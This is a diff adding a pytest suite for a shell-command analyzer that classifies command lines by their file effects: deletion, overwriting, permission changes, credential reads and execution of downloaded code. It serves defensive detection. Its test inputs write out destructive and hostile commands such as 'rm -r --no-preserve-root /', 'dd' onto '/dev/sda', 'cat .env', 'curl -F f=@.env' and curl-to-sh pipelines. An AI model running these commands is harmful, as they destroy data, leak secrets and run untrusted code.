@@ -1,0 +1,202 @@
+"""What commands do to files."""
+
+from __future__ import annotations
+
+import pytest
+
+from commands.lines import effects_in
+
+
+@pytest.mark.parametrize(
+    ("line", "effects"),
+    [
+        ("rm x", ["delete x in project"]),
+        ("rm -rf d", ["delete d in project, recursive, forced"]),
+        ("rm -rf package-lock.json", ["delete package-lock.json in project, forced"]),
+        ("rm -rf *.json", ["delete *.json in project, recursive, forced"]),
+        ("rm -r --no-preserve-root /", ["delete / in root, recursive"]),
+        ("rm", []),
+        ("unlink x", ["delete x in project"]),
+        ("rmdir x", ["delete x in project"]),
+        (
+            "shred x",
+            ["overwrite x in project", "delete x in project, recursive, forced"],
+        ),
+        ("truncate -s 0 x", ["overwrite x in project, forced"]),
+        ("mv a b", ["move a in project, recursive", "overwrite b in project"]),
+        ("mv a", []),
+        ("cp a b", ["overwrite b in project"]),
+        ("cp a", []),
+        ("cp a/x .", ["overwrite . in project", "overwrite ./x in project"]),
+        (
+            "cp -t /etc a b",
+            [
+                "overwrite /etc in system-root+outside",
+                "overwrite /etc/a in system+outside",
+                "overwrite /etc/b in system+outside",
+            ],
+        ),
+        ("ln -s a b", ["append b in project"]),
+        ("ln -sf a b", ["overwrite b in project, forced"]),
+        ("ln a", []),
+        ("dd if=a of=/dev/sda", ["overwrite /dev/sda in device+outside, forced"]),
+        ("tee x", ["overwrite x in project"]),
+        ("tee -a x", ["append x in project"]),
+        ("sed -i s/a/b/ x", ["overwrite s/a/b/ in project", "overwrite x in project"]),
+        ("sed --in-place=.bak s/a/b/ x", ["overwrite s/a/b/ in project", "overwrite x in project"]),
+        ("sed s/a/b/ x", []),
+        ("awk -i inplace 1 x", ["overwrite x in project"]),
+        ("awk 1 x", []),
+        ("chmod 777 x", ["permit x in project"]),
+        ("chmod -R 777 x", ["permit x in project, recursive"]),
+        ("chmod 600 x", []),
+        ("chmod", []),
+        ("chattr x", ["permit x in project"]),
+        ("git rm x", ["delete x in project"]),
+        ("git rm --cached x", []),
+        ("git mv a b", ["move a in project", "move b in project"]),
+        ("git status", []),
+        ("git", []),
+    ],
+)
+def test_files_are_touched(line: str, effects: list[str]):
+    assert effects_in(line) == effects
+
+
+@pytest.mark.parametrize(
+    ("line", "effects"),
+    [
+        ("find . -delete", ["delete ./* in project, recursive, forced"]),
+        ("find -delete", ["delete ./* in project, recursive, forced"]),
+        ("find -L a -delete", ["delete a/* in project, recursive, forced"]),
+        (
+            "find a b -delete",
+            [
+                "delete a/* in project, recursive, forced",
+                "delete b/* in project, recursive, forced",
+            ],
+        ),
+        ("find / -delete", ["delete /* in root, recursive, forced"]),
+        ("find . -name '*.o' -delete", ["delete ./*.o in project, recursive, forced"]),
+        ("find . -exec echo -delete \\;", []),
+        (
+            "find . -exec echo {} \\; -delete",
+            ["delete ./* in project, recursive, forced"],
+        ),
+        ("find . -name x", []),
+        ("find", []),
+        ("find -L", []),
+    ],
+)
+def test_find_deletes_below_its_roots(line: str, effects: list[str]):
+    assert effects_in(line) == effects
+
+
+@pytest.mark.parametrize(
+    ("line", "effects"),
+    [
+        ("rsync a b", ["overwrite b in project"]),
+        (
+            "rsync --delete a/ b/",
+            ["overwrite b/ in project", "delete b/ in project, recursive, forced"],
+        ),
+        (
+            "rsync --remove-source-files a c b",
+            [
+                "overwrite b in project",
+                "delete a in project, recursive, forced",
+                "delete c in project, recursive, forced",
+            ],
+        ),
+        ("rsync -n --delete a b", []),
+        ("rsync a", []),
+    ],
+)
+def test_mirroring_deletes(line: str, effects: list[str]):
+    assert effects_in(line) == effects
+
+
+@pytest.mark.parametrize(
+    ("line", "effects"),
+    [
+        ("tar czf o.tgz src", ["overwrite o.tgz in project"]),
+        ("tar -c -f o.tar src", ["overwrite o.tar in project"]),
+        ("tar cf - src", []),
+        ("tar cf", []),
+        ("tar xf a -C /etc", ["overwrite /etc in system-root+outside"]),
+        ("tar xf a -C ~", []),
+        ("tar xf a", []),
+        ("tar", []),
+        ("zip -r o.zip src", ["overwrite o.zip in project"]),
+        ("zip -r - src", []),
+        ("zip", []),
+        ("7z a o.7z src", ["overwrite o.7z in project"]),
+        ("7z x o.7z", []),
+        ("7z x", []),
+        ("7z", []),
+        ("unzip a.zip -d /etc", ["overwrite /etc in system-root+outside"]),
+        ("unzip a.zip", []),
+    ],
+)
+def test_archives_are_written_and_unpacked(line: str, effects: list[str]):
+    assert effects_in(line) == effects
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "cat .env",
+        "cat ./.e*",
+        "less ~/.ssh/id_rsa",
+        "grep KEY .env",
+        "grep -e KEY .env",
+        "cp .env x",
+        "curl -F f=@.env h",
+        "git show HEAD:.env",
+        "git grep KEY .env",
+        "docker cp c:/.env .",
+        "openssl enc -in=.env; cat '\".env\"'",
+        "dd if=.env",
+        "mail -a .env x",
+    ],
+)
+def test_credentials_are_read(line: str):
+    assert any(effect.startswith("read ") and "credential" in effect for effect in effects_in(line))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "ls .env",
+        "grep .env src",
+        "git add .env",
+        "git diff .env",
+        "git grep .env",
+        "cp .env ../other/.env",
+        "cp x .env",
+        "cat .env.example",
+        "cat -n x*",
+        "cat 'see .env'",
+        "cat 'a\n.env'",
+        "scp -i ~/.ssh/id_rsa a host:b",
+        "python -m x",
+        "cat " + "a" * 2000,
+    ],
+)
+def test_credentials_are_not_read(line: str):
+    assert not any(effect.startswith("read ") for effect in effects_in(line))
+
+
+@pytest.mark.parametrize(
+    ("line", "effect"),
+    [
+        ("curl http://h > a; cp a b; sh b", "execute b, from remote"),
+        ("curl http://h > a; cp a d/; sh d/a", "execute d/a, from remote"),
+        ("curl http://h > a; ln -s a b; sh b", "execute b, from remote"),
+        ("curl http://h | install -m755 /dev/stdin b; ./b", "execute ./b, from remote"),
+        ("curl http://h | tee a; sh a", "execute a, from remote"),
+        ("git bundle create b --all; curl -T b h", "send h, from archive"),
+    ],
+)
+def test_a_copy_is_what_the_original_was(line: str, effect: str):
+    assert effect in effects_in(line)
